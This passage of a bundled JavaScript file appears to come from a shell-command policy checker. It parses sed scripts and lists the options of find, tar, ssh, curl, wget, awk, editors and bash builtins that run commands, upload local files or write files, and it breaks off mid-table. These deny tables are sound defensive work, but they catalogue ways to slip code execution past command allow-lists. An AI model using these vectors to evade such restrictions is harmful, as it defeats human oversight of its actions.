            this.skip(' \t');
            const next = this.peek();
            if (next === '+' || next === '~') {
                this.i++;
                if (!this.skip('0123456789'))
                    throw new NotUnderstood('an address step without a number');
            }
            else if (!this.readAddress()) {
                throw new NotUnderstood('an address range without its end');
            }
        }
        return true;
    }
    readAddress() {
        const first = this.peek();
        if (first === undefined)
            return false;
        if ('0123456789'.includes(first)) {
            this.skip('0123456789');
            if (this.peek() === '~') {
                this.i++;
                this.skip('0123456789');
            }
            return true;
        }
        if (first === '$') {
            this.i++;
            return true;
        }
        if (first === '/' || first === '\\') {
            this.i++;
            const delimiter = first === '/' ? '/' : this.delimiter();
            this.delimited(delimiter);
            this.skip('IM');
            return true;
        }
        return false;
    }
    delimiter() {
        const delimiter = this.next();
        if (delimiter === '\n' || delimiter === '\\') {
            throw new NotUnderstood('a newline or backslash as delimiter');
        }
        return delimiter;
    }
    /** Skips past the next unescaped delimiter. */
    delimited(delimiter) {
        while (!this.atEnd()) {
            const ch = this.next();
            if (ch === '\\') {
                if (this.atEnd())
                    break;
                this.i++;
            }
            else if (ch === delimiter) {
                return;
            }
            else if (ch === '\n') {
                break;
            }
        }
        throw new NotUnderstood(`an unterminated \`${delimiter}\` part`);
    }
    /** After a command: blanks, then the end, `;`, a newline, `}` or a comment. */
    expectEnd() {
        this.skip(' \t');
        const next = this.peek();
        if (next === undefined || ';\n}#'.includes(next))
            return;
        throw new NotUnderstood(`unexpected \`${next}\` after a command`);
    }
    /** The rest of the line, where a backslash-newline continues it (text of `a`, `i`, `c`). */
    restOfLine() {
        const start = this.i;
        while (!this.atEnd()) {
            const ch = this.next();
            if (ch === '\\')
                this.i++;
            else if (ch === '\n')
                return this.script.slice(start, this.i - 1);
        }
        return this.script.slice(start, Math.min(this.i, this.script.length));
    }
    readUntil(stops) {
        while (!this.atEnd() && !stops.includes(this.peek() ?? ''))
            this.i++;
    }
    /** Skips characters from the set; true when at least one was skipped. */
    skip(set) {
        const start = this.i;
        while (!this.atEnd() && set.includes(this.peek() ?? ''))
            this.i++;
        return this.i > start;
    }
    peek() {
        return this.script[this.i];
    }
    next() {
        const ch = this.script[this.i];
        if (ch === undefined)
            throw new NotUnderstood('an unexpected end');
        this.i++;
        return ch;
    }
    atEnd() {
        return this.i >= this.script.length;
    }
}

;// CONCATENATED MODULE: ./src/policy/script-arguments.ts
/**
 * The options of sed and awk, whose scripts are code: where the script comes from (an argument we
 * can read, or a file we cannot), what it does (sed-script.ts; a scan for awk), and options that
 * edit files or load libraries.
 */


/** GNU sed's long options; a unique prefix of one is accepted. */
const SED_LONG_OPTIONS = [
    'expression',
    'file',
    'in-place',
    'line-length',
    'null-data',
    'zero-terminated',
    'posix',
    'quiet',
    'silent',
    'regexp-extended',
    'separate',
    'sandbox',
    'unbuffered',
    'debug',
    'follow-symlinks',
    'binary',
    'help',
    'version',
];
const SED_LONG_WITH_VALUE = new Set(['expression', 'file', 'line-length']);
/**
 * sed: `-i` edits files in place (allowed only by an explicit rule), `-f` reads a script we cannot
 * see, and the script itself may run commands or write files (see sed-script.ts).
 */
function sedCheck(args) {
    const problems = [];
    const scripts = [];
    let scriptGiven = false;
    let sandbox = false;
    const operands = [];
    for (let i = 0; i < args.length; i++) {
        const arg = args[i];
        const literal = arg?.literal;
        if (arg === undefined)
            continue;
        if (literal === undefined || !literal.startsWith('-') || literal === '-') {
            operands.push(arg);
            continue;
        }
        if (literal === '--') {
            operands.push(...args.slice(i + 1));
            break;
        }
        const next = args[i + 1]?.literal;
        if (literal.startsWith('--')) {
            const [name, stuck] = splitLong(literal);
            const option = uniqueLongOption(name, SED_LONG_OPTIONS);
            const takesNext = stuck === undefined && SED_LONG_WITH_VALUE.has(option ?? '');
            if (option === undefined) {
                problems.push(`the unknown or ambiguous sed option \`${literal}\``);
            }
            else if (option === 'expression') {
                scriptGiven = true;
                const script = stuck ?? next;
                if (script === undefined)
                    problems.push('a sed script that is not literal');
                else
                    scripts.push(script);
            }
            else if (option === 'file') {
                scriptGiven = true;
                problems.push(`the option \`${literal}\`, which reads a sed script that cannot be checked`);
            }
            else if (option === 'in-place') {
                problems.push(`the option \`${literal}\`, which edits files in place`);
            }
            else if (option === 'sandbox') {
                sandbox = true;
            }
            if (takesNext)
                i++;
            continue;
        }
        for (let j = 1; j < literal.length; j++) {
            const letter = literal[j] ?? '';
            const stuck = literal.slice(j + 1);
            if (letter === 'i') {
                problems.push(`the option \`${literal}\`, which edits files in place`);
                break;
            }
            if (letter === 'e' || letter === 'f' || letter === 'l') {
                const value = stuck === '' ? next : stuck;
                if (stuck === '')
                    i++;
                if (letter === 'e') {
                    scriptGiven = true;
                    if (value === undefined)
                        problems.push('a sed script that is not literal');
                    else
                        scripts.push(value);
                }
                else if (letter === 'f') {
                    scriptGiven = true;
                    problems.push(`the option \`-f\`, which reads a sed script that cannot be checked`);
                }
                break;
            }
            if (!'nsErzu'.includes(letter))
                problems.push(`the unknown sed option \`-${letter}\``);
        }
    }
    if (!scriptGiven) {
        const script = operands[0];
        if (script?.literal === undefined) {
            if (script !== undefined)
                problems.push(`the sed script \`${script.text}\`, which is not literal`);
        }
        else {
            scripts.push(script.literal);
        }
    }
    if (!sandbox)
        for (const script of scripts)
            problems.push(...sedScriptProblems(script));
    return problems;
}
const AWK_SHORT = {
    e: 'program',
    f: 'program-file',
    E: 'program-file',
    i: 'program-file',
    l: 'library',
    v: 'value',
    F: 'value',
};
const AWK_LONG = {
    source: 'program',
    file: 'program-file',
    exec: 'program-file',
    include: 'program-file',
    load: 'library',
    assign: 'value',
    'field-separator': 'value',
    // gawk writes these to files named by the option or by default names.
    profile: 'writes',
    'dump-variables': 'writes',
    'pretty-print': 'writes',
};
/** Short forms of the options that write files (their values can only be stuck: `-pfile`). */
const AWK_SHORT_WRITES = 'pdo';
const AWK_PROBLEM = {
    program: undefined,
    'program-file': 'reads an awk program that cannot be checked',
    library: 'loads a shared library',
    writes: 'writes a file',
    value: undefined,
    flag: undefined,
};
/** gawk's other long options, which neither take a separate value nor run code. */
const AWK_OTHER_LONG = [
    'characters-as-bytes',
    'traditional',
    'copyright',
    'debug',
    'gen-pot',
    'help',
    'lint',
    'bignum',
    'use-lc-numeric',
    'non-decimal-data',
    'optimize',
    'no-optimize',
    'posix',
    're-interval',
    'sandbox',
    'version',
    'csv',
    'persist',
];
/**
 * The role of a long awk option. An ambiguous or unknown one makes awk refuse to run, so it is
 * harmless ('flag').
 */
function awkLongRole(written) {
    const option = uniqueLongOption(written, [...Object.keys(AWK_LONG), ...AWK_OTHER_LONG]);
    return option === undefined ? 'flag' : (AWK_LONG[option] ?? 'flag');
}
/**
 * awk programs can run commands (`system()`, `print | "cmd"`, `"cmd" | getline`) and write files
 * (`print > "file"`). Without an awk parser, any `|`, `>`, `system`, `getline` or gawk `@` in the
 * program is reported (a `>` comparison included).
 */
function awkCheck(args) {
    const problems = [];
    const programs = [];
    const state = { programGiven: false };
    let i = 0;
    const use = (role, written, value, text) => {
        const problem = AWK_PROBLEM[role];
        if (problem !== undefined)
            problems.push(`the option \`${written}\`, which ${problem}`);
        if (role === 'program')
            programs.push({ text, literal: value });
        if (role === 'program' || role === 'program-file')
            state.programGiven = true;
    };
    for (; i < args.length; i++) {
        const arg = args[i];
        const literal = arg?.literal;
        if (arg === undefined || literal === undefined || !literal.startsWith('-') || literal === '-') {
            break;
        }
        if (literal === '--') {
            i++;
            break;
        }
        const next = args[i + 1];
        if (literal.startsWith('--')) {
            const [name, stuck] = splitLong(literal);
            const role = awkLongRole(name);
            const takesNext = stuck === undefined && role !== 'writes' && role !== 'flag';
            const value = takesNext ? next : undefined;
            use(role, literal, stuck ?? value?.literal, stuck ?? value?.text ?? '');
            if (takesNext)
                i++;
            continue;
        }
        for (let j = 1; j < literal.length; j++) {
            const letter = literal[j] ?? '';
            if (AWK_SHORT_WRITES.includes(letter)) {
                use('writes', `-${letter}`, undefined, '');
                break;
            }
            const role = AWK_SHORT[letter];
            if (role === undefined)
                continue;
            const stuck = literal.slice(j + 1);
            const value = stuck === '' ? next : undefined;
            use(role, `-${letter}`, stuck || value?.literal, stuck || (value?.text ?? ''));
            if (stuck === '')
                i++;
            break;
        }
    }
    const operand = args[i];
    if (!state.programGiven && operand !== undefined)
        programs.push(operand);
    for (const program of programs) {
        if (program.literal === undefined) {
            problems.push(`the awk program \`${program.text}\`, which is not literal`);
            continue;
        }
        const found = new Set([...program.literal.matchAll(/system|getline|[|>@]/gu)].map((m) => m[0]));
        for (const token of found) {
            problems.push(`\`${token}\` in the awk program, which can run commands or write files`);
        }
    }
    return problems;
}

;// CONCATENATED MODULE: ./src/policy/dangerous-arguments.ts
/**
 * Arguments that make a program a rule might allow (a search, a read-only git command, a stream
 * editor) run other code or write files. Each table entry says why it is there. A hit becomes a
 * `dangerous_argument` hazard: the engine then allows the command only by a rule naming its
 * exact text.
 *
 * For every program in the table, an argument that is not literal but could expand into an
 * option (`$x`, `*`, `{-c,x}`) is a hazard too: a file named `--output=x` matches `*`.
 */



/** A check made of option rules. */
function options(syntax, rules) {
    return { check: (args) => findOptions(args, syntax, rules) };
}
/** A program that can run commands whatever its arguments. */
function always(why) {
    return { check: () => [why] };
}
/** `find` predicates that run commands, delete files or write files. */
const FIND_ACTIONS = {
    '-exec': 'runs a command for each file',
    '-execdir': 'runs a command for each file',
    '-ok': 'runs a command for each file',
    '-okdir': 'runs a command for each file',
    '-delete': 'deletes files',
    '-fprint': 'writes a file',
    '-fprint0': 'writes a file',
    '-fprintf': 'writes a file',
    '-fls': 'writes a file',
};
function findCheck(args) {
    return args.flatMap((arg) => {
        const why = arg.literal === undefined ? undefined : FIND_ACTIONS[arg.literal];
        return why === undefined ? [] : [`the find action \`${arg.text}\`, which ${why}`];
    });
}
const SSH_COMMAND_OPTIONS = [
    'proxycommand',
    'localcommand',
    'permitlocalcommand',
    'knownhostscommand',
    'match',
    'include',
    'pkcs11provider',
    'securitykeyprovider',
];
/** `-o ProxyCommand=…` / `-o 'ProxyCommand …'`. */
const sshOption = (value) => SSH_COMMAND_OPTIONS.includes((value.trim().split(/[=\s]/u)[0] ?? '').toLowerCase());
function zipCheck(args) {
    return args.flatMap((arg) => {
        const literal = arg.literal ?? '';
        const [name] = splitLong(literal);
        const hit = /^-[^-]*TT/u.test(literal) || (name.startsWith('--') && prefixOf(name, 'unzip-command'));
        return hit
            ? [`the option \`${arg.text}\`, which names the command that tests the archive`]
            : [];
    });
}
/** Makefile variables given on the command line replace the Makefile's, recipes included. */
function makeCheck(args) {
    const problems = findOptions(args, { shortWithValue: 'CfIoWEjl', abbreviations: true }, [
        {
            short: 'f',
            long: ['file', 'makefile'],
            why: 'reads the makefile from standard input',
            value: isStdin,
        },
        { short: 'E', long: ['eval'], why: 'evaluates make code given inline' },
    ]);
    for (const arg of args) {
        const literal = arg.literal;
        if (literal !== undefined && !literal.startsWith('-') && /^[^=\s]+=/u.test(literal)) {
            problems.push(`the variable override \`${arg.text}\`, which can change the commands make runs`);
        }
    }
    return problems;
}
const isStdin = (value) => value === '-' || value === '/dev/stdin';
/** Settings of npm-style package managers that name programs to run or configuration to load. */
const PACKAGE_MANAGER_RULES = [
    { long: ['script-shell', 'shell'], why: 'names the shell that runs scripts' },
    { long: ['node-options'], why: 'passes options such as --require to every node process' },
    { long: ['userconfig', 'globalconfig'], why: 'loads another configuration file' },
    { long: ['git'], why: 'names the git program to run' },
    { long: ['editor', 'browser'], why: 'names a program to run' },
    { short: 'c', long: ['call'], why: 'runs a shell command' },
];
function packageManagerCheck(args) {
    const problems = findOptions(args, { shortWithValue: '', abbreviations: true }, PACKAGE_MANAGER_RULES);
    for (const arg of args) {
        if (arg.literal?.startsWith('--config.')) {
            problems.push(`the setting \`${arg.text}\`, which can name programs to run`);
        }
    }
    const operands = args
        .map((arg) => arg.literal)
        .filter((a) => a !== undefined && !a.startsWith('-'));
    if ((operands[0] === 'config' || operands[0] === 'c') &&
        ['set', 'edit', 'delete'].includes(operands[1] ?? '')) {
        problems.push('changing the configuration, whose settings can name programs to run');
    }
    return problems;
}
/** Names of variables given to builtins (`read`, `printf -v`) may hold `a[$(cmd)]`, evaluated. */
function subscriptCheck(args) {
    return args.flatMap((arg) => arg.literal !== undefined && /\[.*[$`]/u.test(arg.literal)
        ? [`the array subscript in \`${arg.text}\`, which bash evaluates and can run commands`]
        : []);
}
const CHECKS = {
    git: { check: gitArgumentProblems },
    find: { check: findCheck },
    // fd runs commands with --exec / --exec-batch.
    fd: options({ shortWithValue: 'dtEecjSxX', abbreviations: false }, [
        { short: 'xX', long: ['exec', 'exec-batch'], why: 'runs a command for each match' },
    ]),
    sed: { check: sedCheck },
    awk: { check: awkCheck },
    gawk: { check: awkCheck },
    mawk: { check: awkCheck },
    nawk: { check: awkCheck },
    // ripgrep runs a preprocessor command given with --pre (and --hostname-bin in newer versions).
    // --search-zip only starts fixed decompressors found on PATH, so it is not listed.
    rg: options({ shortWithValue: '', abbreviations: false }, [
        { long: ['pre'], why: 'runs a preprocessor command for each file' },
        { long: ['pre-glob'], why: 'selects files for the preprocessor command' },
        { long: ['hostname-bin'], why: 'runs a command to find the host name' },
    ]),
    // GNU tar runs commands for compression, checkpoints, volume changes and extracted members.
    tar: {
        check: (args) => {
            const syntax = { shortWithValue: 'bCfFgHIKLNTVX', abbreviations: true };
            const rules = [
                { short: 'I', long: ['use-compress-program'], why: 'runs a compression command' },
                { short: 'F', long: ['info-script', 'new-volume-script'], why: 'runs a script' },
                { long: ['to-command'], why: 'pipes extracted files into a command' },
                { long: ['checkpoint-action'], why: 'can run a command at checkpoints' },
                { long: ['rsh-command', 'rmt-command'], why: 'names a remote shell command' },
                { short: 'P', long: ['absolute-names'], why: 'writes files at absolute paths' },
            ];
            // Old-style `tar xzf …`: the first word is a cluster of option letters without a dash.
            const first = args[0]?.literal;
            const oldStyle = first !== undefined && /^[A-Za-z]+$/u.test(first) ? `-${first}` : undefined;
            const view = oldStyle && args[0] ? [{ ...args[0], literal: oldStyle }, ...args.slice(1)] : args;
            return findOptions(view, syntax, rules);
        },
    },
    rsync: options({ shortWithValue: 'eBfTM', abbreviations: true }, [
        { short: 'e', long: ['rsh'], why: 'names the remote shell command' },
        { long: ['rsync-path'], why: 'names the command run on the other side' },
    ]),
    ssh: options({ shortWithValue: 'BbcDEeFIiJLlmOopPQRSWw', abbreviations: false }, [
        { short: 'o', why: 'names a command to run', value: sshOption },
        { short: 'F', why: 'reads a configuration file that can name commands' },
        { short: 'I', why: 'loads a PKCS#11 library' },
    ]),
    scp: options({ shortWithValue: 'cDFiJloPSX', abbreviations: false }, [
        { short: 'o', why: 'names a command to run', value: sshOption },
        { short: 'F', why: 'reads a configuration file that can name commands' },
        { short: 'S', why: 'names the program used instead of ssh' },
    ]),
    sftp: options({ shortWithValue: 'BbcDFiJloPRsS', abbreviations: false }, [
        { short: 'o', why: 'names a command to run', value: sshOption },
        { short: 'F', why: 'reads a configuration file that can name commands' },
        { short: 'SD', why: 'names a program to run' },
    ]),
    // zip -T tests the archive with unzip; -TT / --unzip-command replaces unzip by any command.
    zip: { check: zipCheck },
    // curl writes files (-o, -O, -D, -c, --trace …), reads a config file (-K) and uploads local files.
    curl: options({ shortWithValue: 'AbcCdDeEFHKmoPQrtTuUwxXyYz', abbreviations: true }, [
        {
            short: 'oO',
            long: ['output', 'remote-name', 'remote-name-all', 'output-dir'],
            why: 'writes a file',
        },
        {
            short: 'Dc',
            long: ['dump-header', 'cookie-jar', 'trace', 'trace-ascii', 'stderr', 'libcurl'],
            why: 'writes a file',
        },
        { long: ['etag-save', 'hsts', 'alt-svc'], why: 'writes a file' },
        { short: 'K', long: ['config'], why: 'reads options from a file' },
        { short: 'T', long: ['upload-file'], why: 'uploads a local file' },
        {
            short: 'dF',
            long: ['data', 'data-ascii', 'data-binary', 'data-urlencode', 'json', 'form'],
            why: 'uploads a local file',
            value: (v) => v.includes('@') || v.includes('<'),
        },
        {
            short: 'H',
            long: ['header'],
            why: 'reads headers from a file',
            value: (v) => v.startsWith('@'),
        },
        {
            short: 'w',
            long: ['write-out'],
            why: 'reads or writes a file',
            value: (v) => v.startsWith('@') || v.includes('%output{'),
        },
        { long: ['engine'], why: 'loads a crypto engine library' },
    ]),
    wget: options({ shortWithValue: 'aABDeiIloOPQRtTUwX', abbreviations: true }, [
        {
            short: 'Ooa',
            long: ['output-document', 'output-file', 'append-output', 'save-cookies', 'warc-file'],
            why: 'writes a file',
        },
        { short: 'P', long: ['directory-prefix'], why: 'writes files into a directory' },
        { short: 'e', long: ['execute'], why: 'runs a wgetrc command' },
        { long: ['config'], why: 'reads options from a file' },
        { long: ['use-askpass'], why: 'runs a password command' },
        { long: ['post-file', 'body-file'], why: 'uploads a local file' },
    ]),
    // Interpreters' options that change files or load code beyond the script (inline code itself
    // is judged in shell-programs.ts).
    php: options({ shortWithValue: 'cdfzt', abbreviations: false }, [
        { short: 'd', why: 'sets ini options, which can load code (auto_prepend_file)' },
    ]),
    perl: options({ shortWithValue: 'IxlCdD0i', abbreviations: false }, [
        { short: 'i', why: 'edits files in place' },
    ]),
    ruby: options({ shortWithValue: 'IrCEFxi', abbreviations: false }, [
        { short: 'i', why: 'edits files in place' },
    ]),
    make: { check: makeCheck },
    gmake: { check: makeCheck },
    npm: { check: packageManagerCheck },
    pnpm: { check: packageManagerCheck },
    yarn: { check: packageManagerCheck },
    // Pagers, manual readers and editors run commands from their own command lines (`!cmd`, `:!`).
    less: always('the pager `less`, which can run commands'),
    more: always('the pager `more`, which can run commands'),
    most: always('the pager `most`, which can run commands'),
    pg: always('the pager `pg`, which can run commands'),
    man: always('`man`, which runs a pager that can run commands'),
    vi: always('the editor `vi`, which can run commands'),
    vim: always('the editor `vim`, which can run commands'),
    nvim: always('the editor `nvim`, which can run commands'),
    view: always('the editor `view`, which can run commands'),
    vimdiff: always('the editor `vimdiff`, which can run commands'),
    ex: always('the editor `ex`, which can run commands'),
    ed: always('the editor `ed`, which can run commands'),
    emacs: always('the editor `emacs`, which can run code'),
    emacsclient: always('`emacsclient`, which can run code'),
    nano: always('the editor `nano`, which can run commands'),
    // Builtins that run code given as arguments or rebind what a name runs.
    hash: options({ shortWithValue: 'pt', abbreviations: false }, [
        { short: 'p', why: 'makes a command name run another file' },
    ]),
    enable: always('`enable`, which loads or disables builtins'),
    mapfile: options({ shortWithValue: 'CcdnOsu', abbreviations: false }, [
        { short: 'C', why: 'runs a callback as code' },
    ]),
    readarray: options({ shortWithValue: 'CcdnOsu', abbreviations: false }, [
        { short: 'C', why: 'runs a callback as code' },
    ]),
    compgen: options({ shortWithValue: 'AGWFCXPS', abbreviations: false }, [
        { short: 'CF', why: 'runs a command or function' },
    ]),
    complete: options({ shortWithValue: 'AGWFCXPSo', abbreviations: false }, [
        { short: 'CF', why: 'runs a command or function' },
    ]),
    fc: always('`fc`, which runs commands from the history through an editor'),
    bind: always('`bind`, which can bind keys to commands'),
};
/** Builtins whose arguments name variables, where `a[$(cmd)]` runs `cmd`. */
const NAME_TAKING_BUILTINS = new Set([
    'read',
    'printf',
    'getopts',
    'wait',
    'mapfile',
    'readarray',
    'test',
    'declare',
    'typeset',
    'local',
    'export',
    'readonly',
    'unset',
]);
function dangerousArgumentHazards(program, args) {
    const details = [];
    if (NAME_TAKING_BUILTINS.has(program))
        details.push(...subscriptCheck(args));
    const entry = CHECKS[program];
    if (entry !== undefined) {
        for (const arg of args) {
            if (mayExpandToOption(arg)) {
                details.push(`the argument \`${arg.text}\`, which is not literal and could expand into an option of \`${program}\``);
            }
        }
        details.push(...entry.check(args));
    }
    return details.map((detail) => ({ kind: 'dangerous_argument', detail }));
}

;// CONCATENATED MODULE: ./src/policy/file-readers.ts
const SUMS = {
    longFlags: [
        'binary',
        'text',
        'tag',
        'zero',
        'ignore-missing',
        'quiet',
        'status',
        'strict',
        'warn',
        'check',
    ],
    longValues: { length: 'value', algorithm: 'value' },
    shortValues: { l: 'value', a: 'value' },
    longToShort: { check: '-c' },
    unknownWith: {
        '-c': 'it checks the files a list names, and those names are only known when it runs',
    },
};
const GREP = {
    shortValues: {
        e: 'value',
        f: 'read',
        m: 'value',
        A: 'value',
        B: 'value',
        C: 'value',
        d: 'value',
        D: 'value',
    },
    longValues: {
        regexp: 'value',
        file: 'read',
        'max-count': 'value',
        'after-context': 'value',
        'before-context': 'value',
        context: 'value',
        directories: 'value',
        devices: 'value',
        include: 'value',
        exclude: 'value',
        'exclude-from': 'read',
        'exclude-dir': 'value',
        label: 'value',
        'binary-files': 'value',
        'group-separator': 'value',
    },
    longOptional: ['color', 'colour'],
    longFlags: ['recursive', 'dereference-recursive', 'no-group-separator'],
    longToShort: { 'dereference-recursive': '-R' },
    unknownWith: {
        '-R': 'it follows every symlink while searching directories (use -r, which does not)',
    },
    scriptOperandUnless: ['-e', '--regexp', '-f', '--file'],
};
const AWK = {
    shortValues: { f: 'read', E: 'read', i: 'read', e: 'value', v: 'value', F: 'value', l: 'value' },
    longValues: {
        file: 'read',
        exec: 'read',
        include: 'read',
        source: 'value',
        assign: 'value',
        'field-separator': 'value',
        load: 'value',
    },
    // gawk writes these where its option says (awkCheck reports them); only `--x=file` names one.
    longOptional: ['profile', 'dump-variables', 'pretty-print', 'debug', 'lint'],
    scriptOperandUnless: ['-f', '--file', '-E', '--exec', '-e', '--source'],
    isNotFile: (literal) => /^[A-Za-z_][A-Za-z0-9_]*=/u.test(literal),
    optionsFirst: true,
};
const SED = {
    shortValues: { e: 'value', f: 'read', l: 'value' },
    longValues: { expression: 'value', file: 'read', 'line-length': 'value' },
    longOptional: ['in-place'],
    longToShort: { 'in-place': '-i' },
    scriptOperandUnless: ['-e', '--expression', '-f', '--file'],
    writesOperandsWith: ['-i'],
};
/** Modules a jq filter loads are looked up on disk; we cannot tell where. */
function jqFilterProblem(script) {
    const filter = script?.literal;
    if (filter === undefined || !/\b(import|include)\b/u.test(filter))
        return undefined;
    return 'its filter loads modules or data files (`import`, `include`), which are looked up outside the command line';
}
/** yq's `load` operators read any file the expression names. */
function yqExpressionProblem(script) {
    const expression = script?.literal;
    if (expression === undefined || !/\bload(_[a-z0-9]+)?\s*\(/u.test(expression))
        return undefined;
    return 'its expression reads files itself (`load`)';
}
const READERS = {
    cat: {},
    tac: { shortValues: { s: 'value' }, longValues: { separator: 'value' } },
    head: {
        shortValues: { c: 'value', n: 'value' },
        longValues: { bytes: 'value', lines: 'value' },
    },
    tail: {
        shortValues: { c: 'value', n: 'value', s: 'value' },
        longValues: {
            bytes: 'value',
            lines: 'value',
            'sleep-interval': 'value',
            pid: 'value',
            'max-unchanged-stats': 'value',
        },
        longOptional: ['follow'],
    },
    less: {
        shortValues: {
            b: 'value',
            h: 'value',
            j: 'value',
            k: 'read',
            o: 'write',
            O: 'write',
            p: 'value',
            P: 'value',
            t: 'value',
            T: 'read',
            x: 'value',
            y: 'value',
            z: 'value',
            '#': 'value',
            D: 'value',
        },
        longValues: {
            'log-file': 'write',
            'LOG-FILE': 'write',
            'lesskey-file': 'read',
            'tag-file': 'read',
            pattern: 'value',
            prompt: 'value',
            tag: 'value',
        },
    },
    more: { shortValues: { n: 'value' }, longValues: { lines: 'value' } },
    wc: {
        longValues: { 'files0-from': 'names', total: 'value' },
    },
    sort: {
        shortValues: { k: 'value', o: 'write', S: 'value', t: 'value', T: 'write' },
        longValues: {
            key: 'value',
            output: 'write',
            'buffer-size': 'value',
            'field-separator': 'value',
            'temporary-directory': 'write',
            'batch-size': 'value',
            'compress-program': 'value',
            'files0-from': 'names',
            parallel: 'value',
            'random-source': 'read',
            sort: 'value',
        },
        longOptional: ['check'],
    },
    uniq: {
        shortValues: { f: 'value', s: 'value', w: 'value' },
        longValues: { 'skip-fields': 'value', 'skip-chars': 'value', 'check-chars': 'value' },
        longOptional: ['all-repeated', 'group'],
        operands: ['read', 'write', 'value'],
    },
    cut: {
        shortValues: { b: 'value', c: 'value', d: 'value', f: 'value' },
        longValues: {
            bytes: 'value',
            characters: 'value',
            delimiter: 'value',
            fields: 'value',
            'output-delimiter': 'value',
        },
    },
    diff: {
        shortValues: {
            C: 'value',
            U: 'value',
            D: 'value',
            F: 'value',
            I: 'value',
            L: 'value',
            S: 'value',
            W: 'value',
            x: 'value',
            X: 'read',
        },
        longValues: {
            ifdef: 'value',
            'show-function-line': 'value',
            'ignore-matching-lines': 'value',
            label: 'value',
            'starting-file': 'value',
            width: 'value',
            exclude: 'value',
            'exclude-from': 'read',
            'from-file': 'read',
            'to-file': 'read',
            tabsize: 'value',
            'horizon-lines': 'value',
            'line-format': 'value',
            'old-line-format': 'value',
            'new-line-format': 'value',
            'unchanged-line-format': 'value',
            'old-group-format': 'value',
            'new-group-format': 'value',
            'changed-group-format': 'value',
            'unchanged-group-format': 'value',
            palette: 'value',
        },
        longOptional: ['context', 'unified', 'color'],
        longFlags: ['recursive', 'no-dereference'],
        longToShort: { recursive: '-r' },
        unknownWithAll: [
            {
                options: ['-r'],
                unless: ['--no-dereference'],
                reason: 'it follows symlinks while comparing directories (add --no-dereference, or compare files)',
            },
        ],
    },
    cmp: {
        shortValues: { i: 'value', n: 'value' },
        longValues: { 'ignore-initial': 'value', bytes: 'value' },
        operands: ['read', 'read', 'value'],
    },
    file: {
        shortValues: { e: 'value', f: 'names', F: 'value', m: 'read', P: 'value' },
        longValues: {
            exclude: 'value',
            'exclude-quiet': 'value',
            'files-from': 'names',
            separator: 'value',
            'magic-file': 'read',
            parameter: 'value',
        },
    },
    stat: {
        shortValues: { c: 'value' },
        longValues: { format: 'value', printf: 'value', cached: 'value' },
    },
    nl: {
        shortValues: {
            b: 'value',
            d: 'value',
            f: 'value',
            h: 'value',
            i: 'value',
            l: 'value',
            n: 'value',
            s: 'value',
            v: 'value',
            w: 'value',
        },
        longValues: {
            'body-numbering': 'value',
            'section-delimiter': 'value',
            'footer-numbering': 'value',
            'header-numbering': 'value',
            'line-increment': 'value',
            'join-blank-lines': 'value',
            'number-format': 'value',
            'number-separator': 'value',
            'starting-line-number': 'value',
            'number-width': 'value',
        },
    },
    od: {
        shortValues: { A: 'value', j: 'value', N: 'value', S: 'value', t: 'value' },
        longValues: {
            'address-radix': 'value',
            'skip-bytes': 'value',
            'read-bytes': 'value',
            format: 'value',
            endian: 'value',
        },
        longOptional: ['strings', 'width'],
    },
    xxd: {
        shortValues: {
            c: 'value',
            g: 'value',
            l: 'value',
            o: 'value',
            s: 'value',
            n: 'value',
            R: 'value',
        },
        operands: ['read', 'write', 'value'],
        optionsFirst: true,
    },
    hexdump: {
        shortValues: { e: 'value', f: 'read', n: 'value', s: 'value' },
    },
    hd: {
        shortValues: { e: 'value', f: 'read', n: 'value', s: 'value' },
    },
    strings: {
        shortValues: { n: 'value', t: 'value', e: 'value', T: 'value', s: 'value' },
        longValues: {
            bytes: 'value',
            radix: 'value',
            encoding: 'value',
            target: 'value',
            'output-separator': 'value',
        },
    },
    base64: { shortValues: { w: 'value' }, longValues: { wrap: 'value' } },
    base32: { shortValues: { w: 'value' }, longValues: { wrap: 'value' } },
    md5sum: SUMS,
    sha1sum: SUMS,
    sha224sum: SUMS,
    sha256sum: SUMS,
    sha384sum: SUMS,
    sha512sum: SUMS,
    b2sum: SUMS,
    cksum: SUMS,
    sum: {},
    grep: GREP,
    egrep: GREP,
    fgrep: GREP,
    awk: AWK,
    gawk: AWK,
    mawk: AWK,
    nawk: AWK,
    sed: SED,
    jq: {
        shortValues: { L: 'read' },
        longPairs: { arg: 'value', argjson: 'value', slurpfile: 'read', rawfile: 'read' },
        longValues: {
            indent: 'value',
            'library-path': 'read',
            'from-file': 'read',
        },
        longFlags: ['args', 'jsonargs', 'seq', 'stream', 'tab', 'null-input', 'raw-input', 'slurp'],
        // `-f` makes the first operand the filter's file (jq 1.6) or names it (1.7): a file either way.
        scriptOperandUnless: ['-f', '--from-file'],
        extra: jqFilterProblem,
    },
    yq: {
        subcommands: ['eval', 'e', 'eval-all', 'ea'],
        shortValues: { o: 'value', p: 'value', I: 'value', s: 'write' },
        longValues: {
            'output-format': 'value',
            'input-format': 'value',
            indent: 'value',
            expression: 'value',
            'from-file': 'read',
            'front-matter': 'value',
            'split-exp': 'write',
            'csv-separator': 'value',
            'properties-separator': 'value',
            'xml-attribute-prefix': 'value',
            'xml-content-name': 'value',
        },
        longFlags: ['inplace'],
        longToShort: { inplace: '-i' },
        scriptOperandUnless: ['--expression', '--from-file'],
        writesOperandsWith: ['-i'],
        extra: yqExpressionProblem,
    },
    ls: {
        shortValues: { I: 'value', w: 'value', T: 'value' },
        longValues: {
            ignore: 'value',
            hide: 'value',
            width: 'value',
            tabsize: 'value',
            'block-size': 'value',
            format: 'value',
            sort: 'value',
            time: 'value',
            'time-style': 'value',
            'indicator-style': 'value',
            'quoting-style': 'value',
        },
        longOptional: ['color', 'hyperlink'],
        longFlags: ['recursive', 'dereference'],
        longToShort: { recursive: '-R', dereference: '-L' },
        unknownWithAll: [
            {
                options: ['-R', '-L'],
                reason: 'it follows symlinks while listing directories recursively (leave out -L)',
            },
        ],
    },
    tree: {
        shortValues: { L: 'value', P: 'value', I: 'value', o: 'write', H: 'value', T: 'value' },
        longValues: {
            charset: 'value',
            filelimit: 'value',
            timefmt: 'value',
            sort: 'value',
            gitfile: 'read',
            hintro: 'read',
            houtro: 'read',
            infofile: 'read',
        },
        longFlags: ['fromfile', 'fromtabfile', 'gitignore'],
        unknownWith: { '-l': 'it follows symlinks to directories (leave out -l)' },
    },
    rg: {
        shortValues: {
            e: 'value',
            f: 'read',
            g: 'value',
            t: 'value',
            T: 'value',
            m: 'value',
            A: 'value',
            B: 'value',
            C: 'value',
            M: 'value',
            E: 'value',
            r: 'value',
            j: 'value',
            d: 'value',
        },
